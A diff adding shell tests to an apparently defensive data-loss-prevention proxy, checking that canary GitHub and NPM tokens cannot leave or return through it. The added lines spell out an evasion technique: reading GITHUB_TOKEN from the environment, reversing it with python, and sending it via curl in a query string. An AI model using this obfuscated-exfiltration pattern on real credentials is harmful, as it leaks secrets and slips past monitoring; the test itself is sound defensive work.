@@ -119,6 +119,20 @@ req.end(body);
 JS
 t_run inside node node_leak.js "$H"
 t_grep "node: the canary NPM_TOKEN in a JSON body: 403 dlp-blocked" '^403 dlp-blocked .*canary NPM_TOKEN' "$T_OUT"
+# A canary coming back: sent out reversed (not decoded, so it passes),
+# echoed back by the origin, the response is cut before the client has it.
+REVGH='$(python3 -c "import os; print(os.environ[\"GITHUB_TOKEN\"][::-1])")'
+t_run inside sh -c "curl -sS -m 20 -D - \"http://$H/v1/echo-reversed?d=$REVGH\""
+t_grep "a canary in a response (smuggled out reversed, echoed back): 502 dlp-blocked" \
+	'^HTTP/1.1 502.*|x-canister-error: dlp-blocked' "$T_OUT"
+t_grep "... named as a canary in the response" 'canary \(canary GITHUB_TOKEN\) in the response' "$T_OUT"
+t_nogrep "... the client never got the value" 'ghp_' "$T_OUT"
+t_grep "reported loudly on stderr" 'A CANARY TOKEN \(canary GITHUB_TOKEN\) came back in a response' "$T_ERR"
+t_run inside sh -c "curl -sS -m 20 -o big.txt \"http://$H/v1/echo-reversed?pad=1000000&d=$REVGH\"; echo rc=\$?; grep -c filler big.txt; grep -c ghp_ big.txt"
+t_grep "a canary after 1 MB of a response: the response is cut (curl fails)" '^rc=(18|56)$' "$T_OUT"
+t_grep "... and the client has no canary" '^0$' "$(tail -1 <<<"$T_OUT")"
+t_grep "an honest echo passes with the canaries planted" '^mlk_jihgfedcba$' \
+	"$(inside curl -sS -m 20 "http://$H/v1/echo-reversed?d=abcdefghij_klm")"
 # The proxy forwards a head that passed before the body arrives: the
 # origin may see the request line, never the value.
 t_grep "the canary GitHub token never reached the origin (even decompressed)" '^0$' \
